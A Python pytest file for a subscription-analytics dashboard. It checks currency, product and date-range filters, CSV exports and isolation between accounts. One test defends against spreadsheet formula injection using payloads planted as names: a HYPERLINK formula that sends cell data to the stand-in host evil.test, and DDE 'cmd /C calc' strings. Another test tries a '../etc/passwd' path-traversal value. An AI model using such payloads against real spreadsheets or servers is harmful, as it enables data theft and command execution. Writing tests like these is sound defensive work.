"""Dashboard State: filters reach the metric functions; one account never sees another's data."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime

import polars as pl
import pytest

from analytics import metrics
from analytics.dashboard import Dashboard
from analytics.synthetic import generate, to_stripe_events
from portal_app import i18n
from portal_app.accounts import services as accounts
from portal_app.billing.provider import ItemSpec
from portal_app.billing.providers import billing_provider
from portal_app.db import UnitOfWork
from portal_app.events.importer import import_events
from portal_app.events.synthetic_history import import_synthetic_history
from portal_app.portal import configurations, sessions
from portal_app.retention import experiments, flows, offers
from portal_app.retention.experiments import VariantSpec
from portal_app.state import console as console_state
from portal_app.state.console_dashboard import ALL, DashboardState
from portal_app.web.console_sign_in import COOKIE
from tests.portal_app.retention.conftest import CANCEL_FEATURES
from tests.portal_app.state.test_console_state import redirects_to_login, run, sign_in, state_of

PATH = "/console/dashboard"


@pytest.fixture(autouse=True)
def _test_database(monkeypatch: pytest.MonkeyPatch, make_uow: Callable[[], UnitOfWork]) -> None:
    monkeypatch.setattr(console_state, "unit_of_work", make_uow)


@pytest.fixture(scope="module")
def history():
    # 24 months ending 2026-02-01; the test clock stands at 2026-01-31 12:00
    return generate(n_events=3_000, seed=11)


def _load(account_id: str, events: list[dict], make_uow, *, tag: str,
          currency: str | None = None) -> None:
    lines = []
    for event in events:
        event = json.loads(json.dumps(event))
        event["id"] = f"evt_{tag}_{event['id'][4:]}"  # event ids are unique across accounts
        obj = event["data"]["object"]
        if currency and obj.get("object") == "subscription":
            obj["currency"] = currency
            for item in obj["items"]["data"]:
                item["price"]["currency"] = currency
        elif currency:
            obj["currency"] = currency
        lines.append(json.dumps(event))
    import_events(lines, account_id=account_id, uow_factory=make_uow)


def _signed_in(account_id: str, make_uow) -> DashboardState:
    token = sign_in(account_id, make_uow, f"ops-{account_id.lower()}@acme.test")
    return state_of(DashboardState, cookie=f"{COOKIE}={token}", path=PATH)


def _tile(state: DashboardState, key: str):
    return next(tile for tile in state.tiles if tile.key == key)


def _mrr_now(history, currency: str, products: list[str] | None = None) -> int:
    subscriptions = history.subscriptions.lazy().filter(pl.col("currency") == currency)
    frame = metrics.mrr(metrics.segment(subscriptions, products=products)).collect()
    return int(frame.sort("period")["mrr"][-1])


def _csv(result) -> list[list[str]]:
    match = re.search(r"data:text/csv;base64,([A-Za-z0-9+/=]+)", str(result))
    assert match, result
    return list(csv.reader(io.StringIO(base64.b64decode(match.group(1)).decode())))


def test_without_sign_in_goes_to_login() -> None:
    state = state_of(DashboardState, path=PATH)
    assert redirects_to_login(run(DashboardState.load, state))
    assert state.tiles == []


def test_an_account_without_events_sees_the_empty_state(account_id: str, make_uow) -> None:
    state = _signed_in(account_id, make_uow)
    run(DashboardState.load, state)
    assert state.status == "empty" and state.tiles == []


def test_filters_call_the_metrics_and_other_accounts_stay_out(
        account_id: str, make_uow, clock, history) -> None:
    # the same generated history, with this account's configuration, offers and experiment
    configurations.create_configuration({"features": {}}, account_id=account_id,
                                        uow=make_uow())
    import_synthetic_history(account_id, uow_factory=make_uow, now=clock(), n_events=3_000,
                             seed=11)
    events = to_stripe_events(history)
    # another merchant with the same history, in pounds: never on this dashboard
    other = accounts.create_account(business_name="Other", email="o@x.test", uow=make_uow()).id
    _load(other, events, make_uow, tag=other.lower(), currency="gbp")
    state = _signed_in(account_id, make_uow)

    run(DashboardState.load, state)

    assert state.status == "ready"
    assert {o.value for o in state.currency_options} == {"usd", "eur"}
    assert state.currency == "usd"  # the currency with the most MRR comes first
    assert [t.key for t in state.tiles] == ["mrr", "customers", "logo_churn",
                                            "net_revenue_churn", "save_rate"]
    usd = _mrr_now(history, "usd")
    assert _tile(state, "mrr").value == i18n.format_money(usd, "usd", "en")
    assert all(tile.value != "—" for tile in state.tiles)
    assert {row.name for row in state.offers} == {"30% off for 3 months", "Pause for 2 months"}
    assert [row.variant for row in state.experiments] == ["Control", "30% coupon", "Pause"]
    assert state.experiments[0].first and state.experiments[0].is_control
    assert state.experiments[1].diff.endswith(" pts") and " to " in state.experiments[1].diff_interval
    assert "–" in state.experiments[1].interval and state.experiments[0].diff == "—"
    assert "gbp" not in json.dumps(state.mrr_chart.to_plotly_json(), default=str).lower()

    run(DashboardState.set_currency, state, "eur")
    assert state.currency == "eur"
    eur = _mrr_now(history, "eur")
    assert _tile(state, "mrr").value == i18n.format_money(eur, "eur", "en") != \
        i18n.format_money(usd, "usd", "en")

    product = next(o.value for o in state.product_options if o.value != ALL)
    run(DashboardState.set_product, state, product)
    assert _tile(state, "mrr").value == i18n.format_money(
        _mrr_now(history, "eur", [product]), "eur", "en")

    # an id the browser made up falls back to no filter
    run(DashboardState.set_product, state, "prod_not_mine")
    assert state.product == ALL
    assert _tile(state, "mrr").value == i18n.format_money(eur, "eur", "en")

    rows = _csv(run(DashboardState.download, state, "mrr")[0])
    assert rows[0][:4] == ["period", "currency", "mrr_start", "new"]
    assert {row[1] for row in rows[1:]} == {"eur"}
    offers = _csv(run(DashboardState.download, state, "offers")[0])
    assert offers[0][:4] == ["offer", "offer_type", "currency", "shown"]
    assert run(DashboardState.download, state, "../etc/passwd") == []


def test_the_other_account_sees_only_its_own_currency(account_id: str, make_uow,
                                                      history) -> None:
    _load(account_id, to_stripe_events(history), make_uow, tag=f"g{account_id.lower()}",
          currency="gbp")
    state = _signed_in(account_id, make_uow)
    run(DashboardState.load, state)
    assert [o.value for o in state.currency_options] == ["gbp"]
    assert _tile(state, "customers").value != "0"


def test_range_changes_the_charts_not_the_tiles(account_id: str, make_uow, history) -> None:
    _load(account_id, to_stripe_events(history), make_uow, tag=f"r{account_id.lower()}")
    state = _signed_in(account_id, make_uow)
    run(DashboardState.load, state)
    tiles = [t.value for t in state.tiles]
    months = len(state.mrr_chart.data[0].x)
    assert months == 12

    run(DashboardState.set_range, state, "3m")
    assert len(state.mrr_chart.data[0].x) == 3
    assert [t.value for t in state.tiles] == tiles
    run(DashboardState.set_range, state, "bogus")
    assert state.range_key == "12m"


def _offers_shown(history, start: str, end: str) -> int:
    """Cancel flows in dollars that met an offer, started in [start, end): counted plainly."""
    flows = history.flows
    started = flows.filter(pl.col("step") == "started").select("flow", "created")
    met = flows.filter((pl.col("step") == "offer_presented") & (pl.col("currency") == "usd"))
    begin, until = (datetime.fromisoformat(d).replace(tzinfo=UTC) for d in (start, end))
    return started.filter(pl.col("flow").is_in(met["flow"].implode())
                          & (pl.col("created") >= begin) & (pl.col("created") < until)).height


def _periods(state: DashboardState) -> list[str]:
    return [str(x)[:7] for x in state.mrr_chart.data[0].x]


def test_a_custom_range_narrows_charts_tables_tiles_and_csv(account_id: str, make_uow,
                                                            clock, history) -> None:
    configurations.create_configuration({"features": {}}, account_id=account_id,
                                        uow=make_uow())
    import_synthetic_history(account_id, uow_factory=make_uow, now=clock(), n_events=3_000,
                             seed=11)
    state = _signed_in(account_id, make_uow)
    run(DashboardState.load, state)
    assert len(_periods(state)) == 12
    chart, offers = state.mrr_chart, [(o.name, o.shown) for o in state.offers]

    # choosing "Custom range" shows the period on screen in the inputs, and recomputes nothing
    assert run(DashboardState.set_range, state, "custom") == []
    assert state.is_custom and (state.range_from, state.range_to) == ("2025-02-01",
                                                                       "2026-01-31")
    assert state.today == "2026-01-31" and state.mrr_chart is chart

    run(DashboardState.apply_range, state, {"range_from": "2025-03-15",
                                            "range_to": "2025-06-10"})

    assert state.range_error == "" and state.status == "ready"
    assert _periods(state) == ["2025-03", "2025-04", "2025-05", "2025-06"]
    assert [(o.name, o.shown) for o in state.offers] != offers
    shown = sum(int(o.shown.replace(",", "")) for o in state.offers)
    flows = _offers_shown(history, "2025-03-15", "2025-06-11")
    assert shown == flows
    # the tiles describe the range's last month, and say so
    mrr = _tile(state, "mrr")
    june = metrics.mrr(history.subscriptions.lazy().filter(pl.col("currency") == "usd")) \
        .collect().filter(pl.col("period").dt.strftime("%Y-%m") == "2025-06")["mrr"][0]
    assert mrr.value == i18n.format_money(int(june), "usd", "en")
    assert mrr.caption.startswith("End of Jun 2025 · vs end of May 2025")

    result = run(DashboardState.download, state, "mrr")[0]
    assert "mrr-usd-2025-03-15_2025-06-10.csv" in str(result)
    assert [row[0][:7] for row in _csv(result)[1:]] == ["2025-03", "2025-04", "2025-05",
                                                        "2025-06"]


@pytest.mark.parametrize(("start", "end", "message"), [
    ("2025-06-10", "2025-03-15", "The start date (Jun 10, 2025) is after the end date "
                                 "(Mar 15, 2025)."),
    ("2025-12-01", "2026-02-01", "The range can't go past today (Jan 31, 2026)."),
    ("2025-13-01", "2025-12-31", "“2025-13-01” is not a date. Use the date picker or "
                                 "YYYY-MM-DD."),
    ("", "2025-12-31", "Enter both dates of the range."),
])
def test_an_invalid_custom_range_says_why_and_keeps_the_numbers(
        account_id: str, make_uow, history, start: str, end: str, message: str) -> None:
    _load(account_id, to_stripe_events(history), make_uow, tag=f"i{account_id.lower()}")
    state = _signed_in(account_id, make_uow)
    run(DashboardState.load, state)
    run(DashboardState.set_range, state, "custom")
    run(DashboardState.apply_range, state, {"range_from": "2025-09-01",
                                            "range_to": "2025-11-30"})
    assert _periods(state) == ["2025-09", "2025-10", "2025-11"]
    chart, tiles = state.mrr_chart, [t.value for t in state.tiles]

    assert run(DashboardState.apply_range, state, {"range_from": start,
                                                   "range_to": end}) == []

    assert state.range_error == message and state.has_range_error
    assert state.mrr_chart is chart and [t.value for t in state.tiles] == tiles
    assert (state.range_key, state.range_from, state.range_to) == ("custom", "2025-09-01",
                                                                   "2025-11-30")
    # the downloads keep following the range that is shown
    rows = _csv(run(DashboardState.download, state, "churn")[0])
    assert [row[0][:7] for row in rows[1:]] == ["2025-09", "2025-10", "2025-11"]

    run(DashboardState.set_range, state, "3m")  # back to a preset: the message goes
    assert state.range_error == "" and not state.is_custom
    assert _periods(state) == ["2025-11", "2025-12", "2026-01"]


FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for your refund")'


def test_no_downloaded_cell_is_a_formula(account_id: str, make_uow) -> None:
    # A console user names an experiment and its arms with formulas, and a customer leaves
    # a formula as their comment, through the real portal cancel flow: every CSV of the
    # dashboard shows them as text (OWASP: a quote before = + - @ tab CR), never as formulas.
    billing = billing_provider(account_id, uow=make_uow())
    product = billing.create_product(name="@SUM(1+1)*cmd|' /C calc'!A0")
    price = billing.create_price(product=product["id"], currency="usd", unit_amount=4900,
                                 interval="month")
    config = configurations.create_configuration({"features": CANCEL_FEATURES},
                                                 account_id=account_id, uow=make_uow())
    offer = offers.create_offer(account_id=account_id, uow=make_uow(), type="contact",
                                name="-2+3+cmd|' /C calc'!A0",
                                contact_url="https://acme.test/talk")
    experiment = experiments.create_experiment(
        account_id=account_id, uow=make_uow(), name=FORMULA, configuration=config.id,
        variants=[VariantSpec(name="+control", weight=1),
                  VariantSpec(name="@contact", weight=1, offers={"default": offer.id})])
    experiments.start_experiment(experiment.id, account_id=account_id, uow=make_uow())
    for i in range(4):
        customer = billing.create_customer(email=f"c{i}@example.com",
                                           payment_method="pm_card_visa")["id"]
        sub = billing.create_subscription(customer=customer, items=[ItemSpec(price["id"])])
        session = sessions.create_session(account_id=account_id, uow=make_uow(),
                                          customer=customer, configuration=config.id).session
        flow = flows.start_flow(session, sub["id"], uow=make_uow()).flow
        if flows.submit_reason(session, flow.id, "too_expensive", FORMULA, uow=make_uow()):
            flows.decline_offer(session, flow.id, uow=make_uow())
        flows.confirm_cancel(session, flow.id, uow=make_uow())
    state = _signed_in(account_id, make_uow)
    run(DashboardState.load, state)
    assert state.status == "ready"

    tables = {table: _csv(run(DashboardState.download, state, table)[0])
              for table in Dashboard.TABLES}

    assert FORMULA in {row.experiment for row in state.experiments}  # the page shows it as is
    header, *rows = tables["experiments"]
    named = [dict(zip(header, row, strict=True)) for row in rows]
    assert {row["name"] for row in named} == {"'" + FORMULA}
    assert {row["variant_name"] for row in named} == {"'+control", "'@contact"}
    cells = [cell for table in tables.values() for row in table for cell in row]
    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
                          or (cell.startswith("-") and not _is_number(cell))]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
